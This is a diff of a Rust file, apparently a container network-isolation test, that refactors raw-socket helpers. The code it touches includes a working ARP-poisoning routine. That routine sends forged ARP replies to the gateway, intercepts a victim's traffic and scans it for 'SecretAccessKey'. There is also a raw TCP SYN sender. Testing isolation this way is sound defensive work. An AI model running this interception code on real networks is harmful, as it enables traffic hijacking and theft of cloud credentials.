@@ -235,7 +235,31 @@ fn gateway_mac(gw: std::net::Ipv4Addr) -> [u8; 6] {
     panic!("the gateway {gw} was not resolved");
 }
 
-/// An `AF_PACKET` socket bound to eth0 (its index), receiving with a 50 ms timeout.
+/// This container's MAC (eth0's).
+fn own_mac() -> [u8; 6] {
+    mac(&std::fs::read_to_string("/sys/class/net/eth0/address").expect("eth0"))
+}
+
+/// The next frame on `socket` of at least `min` bytes, if one came within the receive timeout.
+fn recv_frame<'a>(
+    socket: &std::os::fd::OwnedFd,
+    buf: &'a mut [u8],
+    min: usize,
+) -> Option<&'a [u8]> {
+    // SAFETY: a buffer of the size given.
+    let got = unsafe {
+        libc::recv(
+            std::os::fd::AsRawFd::as_raw_fd(socket),
+            buf.as_mut_ptr().cast(),
+            buf.len(),
+            0,
+        )
+    };
+    let got = usize::try_from(got).ok().filter(|&n| n >= min)?;
+    Some(&buf[..got])
+}
+
+/// An `AF_PACKET` socket on eth0 (and eth0's index), receiving with a 50 ms timeout.
 fn packet_socket() -> (std::os::fd::OwnedFd, i32) {
     let index: i32 = std::fs::read_to_string("/sys/class/net/eth0/ifindex")
         .expect("eth0")
@@ -294,7 +318,7 @@ fn send_frame(socket: &std::os::fd::OwnedFd, index: i32, to_mac: [u8; 6], frame:
 fn poison(victim: std::net::Ipv4Addr, run: Duration) -> (usize, usize) {
     let gw = gateway();
     let gw_mac = gateway_mac(gw);
-    let own_mac = mac(&std::fs::read_to_string("/sys/class/net/eth0/address").expect("eth0"));
+    let own_mac = own_mac();
     let (socket, index) = packet_socket();
     // An ARP reply: "victim is at own_mac", to the gateway.
     let mut reply = Vec::with_capacity(42);
@@ -315,19 +339,9 @@ fn poison(victim: std::net::Ipv4Addr, run: Duration) -> (usize, usize) {
             send_frame(&socket, index, gw_mac, &reply);
             next_reply += Duration::from_millis(50);
         }
-        // SAFETY: a buffer of the size given.
-        let got = unsafe {
-            libc::recv(
-                std::os::fd::AsRawFd::as_raw_fd(&socket),
-                buf.as_mut_ptr().cast(),
-                buf.len(),
-                0,
-            )
-        };
-        if got < 34 {
+        let Some(frame) = recv_frame(&socket, &mut buf, 34) else {
             continue;
-        }
-        let frame = &buf[..got as usize];
+        };
         if frame[12..14] == [0x08, 0x00] && frame[30..34] == victim.octets() {
             hijacked += 1;
             if frame.windows(15).any(|w| w == b"SecretAccessKey") {
@@ -342,33 +356,14 @@ fn poison(victim: std::net::Ipv4Addr, run: Duration) -> (usize, usize) {
 fn frames(dst: std::net::SocketAddrV4, n: usize) -> (usize, usize) {
     let gw = gateway();
     let gw_mac = gateway_mac(gw);
-    let own_mac = mac(&std::fs::read_to_string("/sys/class/net/eth0/address").expect("eth0"));
+    let own_mac = own_mac();
     // The address this container's traffic leaves with (a UDP connect sends nothing).
     let probe = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
     probe.connect((gw, 9)).unwrap();
     let std::net::IpAddr::V4(own) = probe.local_addr().unwrap().ip() else {
         panic!("an IPv4 address")
     };
-    let index: i32 = std::fs::read_to_string("/sys/class/net/eth0/ifindex")
-        .expect("eth0")
-        .trim()
-        .parse()
-        .expect("an index");
-    // SAFETY: plain socket(2); the descriptor is owned below.
-    let fd = unsafe {
-        libc::socket(
-            libc::AF_PACKET,
-            libc::SOCK_RAW,
-            (libc::ETH_P_ALL as u16).to_be() as i32,
-        )
-    };
-    assert!(fd >= 0, "AF_PACKET: {}", std::io::Error::last_os_error());
-    let socket = unsafe { <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) };
-    let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
-    to.sll_family = libc::AF_PACKET as u16;
-    to.sll_ifindex = index;
-    to.sll_halen = 6;
-    to.sll_addr[..6].copy_from_slice(&gw_mac);
+    let (socket, index) = packet_socket();
     let mut sent = 0;
     for i in 0..n {
         let mut frame = Vec::with_capacity(14 + 40);
@@ -376,53 +371,18 @@ fn frames(dst: std::net::SocketAddrV4, n: usize) -> (usize, usize) {
         frame.extend_from_slice(&own_mac);
         frame.extend_from_slice(&0x0800u16.to_be_bytes());
         frame.extend_from_slice(&syn(own, 41_000 + i as u16, *dst.ip(), dst.port()));
-        // SAFETY: a valid buffer and address of the sizes given.
-        let rc = unsafe {
-            libc::sendto(
-                std::os::fd::AsRawFd::as_raw_fd(&socket),
-                frame.as_ptr().cast(),
-                frame.len(),
-                0,
-                (&raw const to).cast(),
-                std::mem::size_of::<libc::sockaddr_ll>() as u32,
-            )
-        };
-        if rc > 0 {
+        if send_frame(&socket, index, gw_mac, &frame) {
             sent += 1;
         }
     }
     // What comes back: SYN-ACKs from dst to our ports.
-    let timeout = libc::timeval {
-        tv_sec: 0,
-        tv_usec: 200_000,
-    };
-    // SAFETY: a timeval of the size given.
-    unsafe {
-        libc::setsockopt(
-            std::os::fd::AsRawFd::as_raw_fd(&socket),
-            libc::SOL_SOCKET,
-            libc::SO_RCVTIMEO,
-            (&raw const timeout).cast(),
-            std::mem::size_of::<libc::timeval>() as u32,
-        );
-    }
     let deadline = std::time::Instant::now() + Duration::from_secs(3);
     let mut synacks = 0;
     let mut buf = [0u8; 2048];
     while std::time::Instant::now() < deadline {
-        // SAFETY: a buffer of the size given.
-        let got = unsafe {
-            libc::recv(
-                std::os::fd::AsRawFd::as_raw_fd(&socket),
-                buf.as_mut_ptr().cast(),
-                buf.len(),
-                0,
-            )
-        };
-        if got < 14 + 20 + 20 {
+        let Some(frame) = recv_frame(&socket, &mut buf, 14 + 20 + 20) else {
             continue;
-        }
-        let frame = &buf[..got as usize];
+        };
         let ihl = usize::from(frame[14] & 0x0f) * 4;
         let tcp = 14 + ihl;
         if frame[12..14] == [0x08, 0x00]
